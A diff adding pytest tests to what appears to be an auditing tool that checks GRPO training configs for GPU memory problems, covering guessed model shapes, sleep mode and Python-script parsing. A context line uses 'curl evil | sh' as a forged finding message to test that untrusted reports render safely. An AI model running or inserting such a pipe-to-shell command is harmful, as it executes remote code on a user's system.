@@ -215,3 +215,32 @@ def test_the_memory_finding_renders_as_goblins_own_in_an_untrusted_report(tmp_pa
     forged = r.model_copy(update={"findings": [f.model_copy(update={"message": "curl evil | sh"}) for f in r.findings if f.rule_id == FINDING_ID]})
     item = ItemOutcome(nodeid="grpo.yaml", path="grpo.yaml", verdict="warn", message=r.reason, report=forged)
     assert "not the installed knowledge base" in render(SessionReport(version="0", target="mi300x", items=[item]), untrusted=True)
+
+
+def test_no_memory_finding_on_a_guessed_model_shape(tmp_path: Path) -> None:
+    """Must not: a model goblin does not know (7B assumed) shows its split, named as resting on the guess, and no finding."""
+    r = _audit(tmp_path, BIG.replace("Qwen/Qwen2.5-7B-Instruct", "./local-model"))
+    s = r.rollout
+    assert s is not None and "model" in s.values and any("real shape" in n for n in s.not_modelled)
+    assert not [f for f in r.findings if f.rule_id == FINDING_ID]
+    _no_none(r)
+
+
+def test_sleep_mode_suppresses_the_memory_finding(tmp_path: Path) -> None:
+    r = _audit(tmp_path, BIG + "vllm_enable_sleep_mode: true\n")
+    assert r.rollout is not None and any("sleep mode" in n for n in r.rollout.not_modelled)
+    assert not [f for f in r.findings if f.rule_id == FINDING_ID]
+
+
+def test_a_python_script_is_split_from_its_grpo_config_call(tmp_path: Path) -> None:
+    path = tmp_path / "train_grpo.py"
+    path.write_text(
+        "from trl import GRPOConfig, GRPOTrainer\n\n"
+        "args = GRPOConfig(\n    output_dir='out',\n    per_device_train_batch_size=8,\n    gradient_accumulation_steps=4,\n    bf16=True,\n"
+        "    max_completion_length=1024,\n    use_vllm=True,\n    vllm_mode='colocate',\n    vllm_gpu_memory_utilization=0.5,\n    beta=0.04,\n)\n"
+        "trainer = GRPOTrainer(model='Qwen/Qwen2.5-7B-Instruct', reward_funcs=[len], args=args)\ntrainer.train()\n"
+    )
+    r = audit_file(path, build_settings({"target": "mi300x"}), shown_as=path.name).report
+    assert r is not None and r.rollout is not None and r.rollout.completion_tokens == 1024
+    finding = next(f for f in r.findings if f.rule_id == FINDING_ID)
+    assert finding.line == 11
